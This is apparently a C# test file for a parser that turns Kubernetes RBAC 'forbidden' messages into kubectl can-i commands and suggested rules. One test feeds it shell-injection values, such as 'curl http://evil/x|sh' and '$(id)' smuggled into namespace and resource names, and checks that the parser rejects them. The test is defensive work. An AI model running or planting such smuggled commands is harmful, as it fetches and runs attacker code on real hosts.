using EventRecording.Cluster;
using EventRecording.Tests.Support;

namespace EventRecording.Tests.Store;

public class AccessDenialTests
{
    [Theory]
    [InlineData("access", 0, "system:anonymous", "list", "events", "", "wire")]
    [InlineData("access", 9, "jane", "list", "events", "", "wire")]
    [InlineData("rights", 3, "limited-user", "create", "events", "events.k8s.io", "wire")]
    [InlineData("rights", 6, "limited-user", "patch", "events", "", "wire")]
    [InlineData("rights", 7, "limited-user", "create", "events", "", "default")]
    public void A_refusal_of_a_real_server_is_understood(string scenario, int step, string user, string verb, string resource, string group, string ns) =>
        Assert.Equal(new AccessDenial(user, verb, resource, group, ns), AccessDenial.From(Status(scenario, step)));

    [Fact]
    public void A_refusal_at_the_scope_of_the_cluster_asks_for_a_ClusterRole()
    {
        var denial = AccessDenial.From(Forbidden("""deployments.apps "d" is forbidden: User "u" cannot update resource "deployments/scale" in API group "apps" at the cluster scope"""));
        Assert.Equal(new AccessDenial("u", "update", "deployments/scale", "apps", null), denial);
        Assert.Equal("kubectl auth can-i update deployments.apps --subresource=scale --all-namespaces", denial!.CanI);
        Assert.Contains("in the whole cluster. A ClusterRole bound to this user needs the rule", denial.ToString(), StringComparison.Ordinal);
        Assert.Equal("- {apiGroups: [\"apps\"], resources: [\"deployments/scale\"], verbs: [\"update\"]}", denial.Rule);
    }

    [Theory]
    [InlineData("/api", """- {nonResourceURLs: ["/api", "/api/*", "/apis", "/apis/*"], verbs: ["get"]}""")]
    [InlineData("/apis/apps/v1", """- {nonResourceURLs: ["/api", "/api/*", "/apis", "/apis/*"], verbs: ["get"]}""")]
    [InlineData("/apiserver", """- {nonResourceURLs: ["/apiserver"], verbs: ["get"]}""")]
    public void A_refusal_of_a_path_names_the_rule_for_it(string path, string rule)
    {
        var denial = AccessDenial.From(Forbidden($"""forbidden: User "system:anonymous" cannot get path "{path}": no RBAC policy matched"""));
        Assert.Equal(new AccessDenial("system:anonymous", "get", path, "", null), denial);
        Assert.Equal(rule, denial!.Rule);
        Assert.Equal($"kubectl auth can-i get {path}", denial.CanI);
        Assert.StartsWith($"User \"system:anonymous\" may not get {path}", denial.ToString(), StringComparison.Ordinal);
        Assert.Equal(path != "/apiserver", denial.ToString().Contains("given with its uid", StringComparison.Ordinal));
    }

    [Fact]
    public void Other_refusals_with_403_are_none_that_a_rule_would_help_against()
    {
        Assert.Null(AccessDenial.From(Status("terminating", 1)));
        Assert.Null(AccessDenial.From(Forbidden("""events "e" is forbidden: exceeded quota: count, requested: count/events=1""")));
        Assert.Null(AccessDenial.From(Forbidden("""User "u" cannot get resource "x" in API group "" """) with { Code = 404 }));
    }

    [Fact]
    public void What_the_server_says_is_shown_without_control_characters() =>
        Assert.DoesNotContain('\u001b', AccessDenial.From(Forbidden("User \"u\u001b[31m\" cannot get resource \"x\" in API group \"\" at the cluster scope"))!.ToString());

    // People copy the command.
    [Theory]
    [InlineData("""User "u" cannot list resource "events" in API group "" in the namespace "default; curl http://evil/x|sh #" """)]
    [InlineData("""User "u" cannot list;id>/tmp/pwn; resource "events" in API group "" in the namespace "default" """)]
    [InlineData("""User "u" cannot list resource "events$(id)" in API group "" in the namespace "default" """)]
    [InlineData("""User "u" cannot list resource "events" in API group "`id`" at the cluster scope""")]
    [InlineData("""User "u" cannot get path "/api;id": no RBAC policy matched""")]
    public void Words_that_no_name_has_become_no_command(string message) => Assert.Null(AccessDenial.From(Forbidden(message)));

    private static KubernetesStatus Forbidden(string message) => new() { Code = 403, Reason = "Forbidden", Message = message };

    private static KubernetesStatus Status(string scenario, int step) =>
        StatusJson.TryRead(System.Text.Encoding.UTF8.GetBytes(Transcript.Body(Transcript.V1_20, scenario, step).GetRawText()))!;
}
